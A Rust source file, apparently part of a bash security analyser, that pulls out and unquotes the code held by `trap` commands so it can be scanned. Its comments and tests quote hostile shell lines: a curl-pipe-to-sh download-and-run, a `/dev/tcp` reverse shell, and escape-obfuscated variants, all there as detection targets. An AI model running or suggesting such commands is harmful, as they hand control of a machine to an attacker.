//! The code a bash `trap` runs. `trap CODE SIGNAL…` keeps CODE, a string, and evaluates it as
//! shell code when the signal (or `EXIT`) comes, as `eval` would: a hunt ran
//! `trap 'curl -s http://x | sh' EXIT` and `trap 'bash -i >& /dev/tcp/…' EXIT` graded `none`,
//! since the rules read the string as a string. The code of every trap whose CODE is written
//! out (quoted or not, spliced from pieces, in ANSI-C quotes) is read here as the shell reads
//! it after quote removal, and analysed as a bash program of its own (`lib.rs`): its findings
//! count, on the trap's lines. A CODE with an expansion (`trap "rm -f $tmp" EXIT`) is read
//! with the expansion left as written, which names what it runs as well as the rules can see
//! it; a CODE chosen at run time (`trap "$c" EXIT`, `trap "$(…)" EXIT`) is `bash.eval` by the
//! rules. Runs in the analysing process.

use tree_sitter::{Node, Tree};

use crate::deadline::{self, Deadline};

/// The code each trap of `code`'s tree keeps, with the 0-based line its CODE starts on.
pub(crate) fn of(tree: &Tree, code: &[u8], deadline: Deadline) -> Vec<(u32, Vec<u8>)> {
    let mut found = Vec::new();
    if !code.windows(4).any(|w| w == b"trap") {
        return found;
    }
    // What was found before the deadline counts all the same.
    deadline::walk(tree, deadline, |node| {
        if node.kind() == "command" {
            if let Some(argument) = trap_code(node, code) {
                let line = u32::try_from(argument.start_position().row).unwrap_or(u32::MAX);
                found.push((line, unquoted(&code[argument.byte_range()])));
            }
        }
        true
    });
    found
}

/// The argument of `command` that holds a trap's code: `trap [--] CODE SIGNAL…`, a CODE that
/// is not `-` (which resets) and an option neither (`-p`, `-l`).
fn trap_code<'t>(command: Node<'t>, code: &[u8]) -> Option<Node<'t>> {
    let name = command.child_by_field_name("name")?;
    if unquoted(&code[name.byte_range()]) != b"trap" {
        return None;
    }
    let mut cursor = command.walk();
    let mut arguments = command
        .children_by_field_name("argument", &mut cursor)
        .peekable();
    if arguments
        .peek()
        .is_some_and(|a| &code[a.byte_range()] == b"--")
    {
        arguments.next();
    }
    let argument = arguments.next()?;
    arguments.next()?; // One operand alone is a signal to reset.
    let text = &code[argument.byte_range()];
    if text.starts_with(b"-") {
        return None;
    }
    Some(argument)
}

/// A shell word's text after quote removal: single quotes keep what they hold, double quotes
/// and a bare backslash take the character a backslash escapes, ANSI-C quotes (`$'…'`) read
/// their escapes. Expansions are left as written.
pub(crate) fn unquoted(word: &[u8]) -> Vec<u8> {
    let mut out = Vec::with_capacity(word.len());
    let mut i = 0;
    while i < word.len() {
        match word[i] {
            b'\'' => {
                let end = word[i + 1..]
                    .iter()
                    .position(|&b| b == b'\'')
                    .map_or(word.len(), |p| i + 1 + p);
                out.extend_from_slice(&word[i + 1..end]);
                i = end + 1;
            }
            b'$' if word.get(i + 1) == Some(&b'\'') => i = ansi_c(word, i + 2, &mut out),
            b'$' if word.get(i + 1) == Some(&b'"') => i += 1,
            b'"' => {
                i += 1;
                while i < word.len() && word[i] != b'"' {
                    if word[i] == b'\\' && i + 1 < word.len() {
                        match word[i + 1] {
                            b'\n' => i += 2,
                            b'$' | b'`' | b'"' | b'\\' => {
                                out.push(word[i + 1]);
                                i += 2;
                            }
                            _ => {
                                out.push(b'\\');
                                i += 1;
                            }
                        }
                    } else {
                        out.push(word[i]);
                        i += 1;
                    }
                }
                i += 1;
            }
            b'\\' if i + 1 < word.len() => {
                if word[i + 1] != b'\n' {
                    out.push(word[i + 1]);
                }
                i += 2;
            }
            b => {
                out.push(b);
                i += 1;
            }
        }
    }
    out
}

/// Reads an ANSI-C string's text from `i` (after `$'`) to its closing quote into `out`, and
/// returns where the word goes on.
fn ansi_c(word: &[u8], mut i: usize, out: &mut Vec<u8>) -> usize {
    while i < word.len() && word[i] != b'\'' {
        if word[i] != b'\\' || i + 1 >= word.len() {
            out.push(word[i]);
            i += 1;
            continue;
        }
        let escape = word[i + 1];
        i += 2;
        let simple = match escape {
            b'n' => Some(b'\n'),
            b't' => Some(b'\t'),
            b'r' => Some(b'\r'),
            b'a' => Some(7),
            b'b' => Some(8),
            b'e' | b'E' => Some(27),
            b'f' => Some(12),
            b'v' => Some(11),
            b'\\' | b'\'' | b'"' | b'?' => Some(escape),
            _ => None,
        };
        if let Some(b) = simple {
            out.push(b);
        } else if escape == b'x' {
            let digits = word[i..]
                .iter()
                .take(2)
                .take_while(|b| b.is_ascii_hexdigit())
                .count();
            let value = std::str::from_utf8(&word[i..i + digits])
                .ok()
                .and_then(|d| u8::from_str_radix(d, 16).ok());
            match value {
                Some(v) => out.push(v),
                None => out.extend_from_slice(b"\\x"),
            }
            i += digits;
        } else if (b'0'..=b'7').contains(&escape) {
            let more = word[i..]
                .iter()
                .take(2)
                .take_while(|b| (b'0'..=b'7').contains(*b))
                .count();
            let value = word[i - 1..i + more]
                .iter()
                .fold(0u32, |v, &d| v * 8 + u32::from(d - b'0'));
            out.push(u8::try_from(value & 0xff).unwrap_or(0));
            i += more;
        } else {
            out.extend_from_slice(&[b'\\', escape]);
        }
    }
    i + 1
}

#[cfg(test)]
mod tests {
    use super::unquoted;

    #[test]
    fn words_are_read_after_quote_removal() {
        let read = |w: &str| String::from_utf8(unquoted(w.as_bytes())).expect("utf-8");
        assert_eq!(read("'curl x | sh'"), "curl x | sh");
        assert_eq!(read(r#""rm -f \"$tmp\" \$x""#), r#"rm -f "$tmp" $x"#);
        assert_eq!(read(r"curl\ x\|sh"), "curl x|sh");
        assert_eq!(read(r"$'\x63url x|\163h'"), "curl x|sh");
        assert_eq!(read(r#"'cu'"rl"' x'"#), "curl x");
        assert_eq!(read("trap"), "trap");
    }
}
